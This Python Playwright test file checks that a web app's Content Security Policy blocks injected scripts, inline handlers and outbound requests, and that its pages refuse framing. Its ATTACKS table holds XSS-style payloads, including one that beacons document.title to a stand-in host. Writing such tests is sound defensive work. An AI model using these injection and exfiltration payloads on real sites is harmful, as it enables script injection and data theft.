"""What the policy of our pages stops in a real browser. That it stops nothing of ours, each screen's test says: it hears
every complaint of the browser."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.conftest import sign_in
from tests.browser.looking import watch
from tests.browser.world import World

REPORTED = """() => { window.stopped = []; document.addEventListener("securitypolicyviolation",
    event => window.stopped.push(event.effectiveDirective)); }"""
ATTACKS = {
    "script-src-elem": """() => {
        const one = document.createElement("script"); one.textContent = "window.ran = true"; document.body.append(one); }""",
    "script-src-attr": """() => {
        document.body.insertAdjacentHTML("beforeend", "<img alt='' src='data:,' onerror='window.ran = true'>"); }""",
    "img-src": "() => { new Image().src = 'https://elsewhere.example/' + document.title; }",
    "connect-src": "() => { fetch('https://elsewhere.example/').catch(() => null); }",
    "form-action": """() => {
        const one = document.createElement("form"); one.action = "https://elsewhere.example/"; document.body.append(one); one.submit(); }""",
    "frame-src": "() => { const one = document.createElement('iframe'); one.src = 'https://elsewhere.example/'; document.body.append(one); }",
    "base-uri": "() => { const one = document.createElement('base'); one.href = 'https://elsewhere.example/'; document.head.append(one); }",
    "object-src": """() => {
        const one = document.createElement("object"); one.data = "https://elsewhere.example/"; document.body.append(one); }""",
}


@pytest.mark.parametrize("directive", ATTACKS)
def test_what_gets_into_a_page_can_neither_run_nor_send_anything_away(
    page_of: Callable[..., Page], world: World, directive: str
) -> None:
    page = page_of("staff")
    page.goto(f"/admin/workflows/item/{world.items['invoice']}/change/")
    page.evaluate(REPORTED)
    page.evaluate(ATTACKS[directive])
    page.wait_for_function("() => window.stopped.length")
    assert page.evaluate("() => [window.stopped[0], Boolean(window.ran)]") == [directive, False]
    assert page.url.startswith(world.url)


def test_our_pages_are_in_no_frame(page_of: Callable[..., Page], world: World) -> None:
    page = page_of("staff")
    page.set_content(f"<iframe src='{world.url}/admin/'></iframe>")
    page.wait_for_function("() => window.length === 1")
    page.frames[1].wait_for_load_state()
    assert page.frames[1].url.startswith("chrome-error:")


def test_the_page_of_the_api_works_and_the_browser_stops_nothing_of_it(page_of: Callable[..., Page]) -> None:
    page = page_of("staff")
    heard = watch(page)
    page.goto("/api/v1/docs")
    page.get_by_text("Submit an item").click()
    page.get_by_text("Makes a repeat harmless.").wait_for()
    assert heard == []


def test_the_way_in_works_and_the_browser_stops_nothing_of_it(browser: Browser, world: World) -> None:
    page = browser.new_page()
    heard = watch(page)
    sign_in(page=page, world=world, person="staff")
    assert heard == []
    page.close()
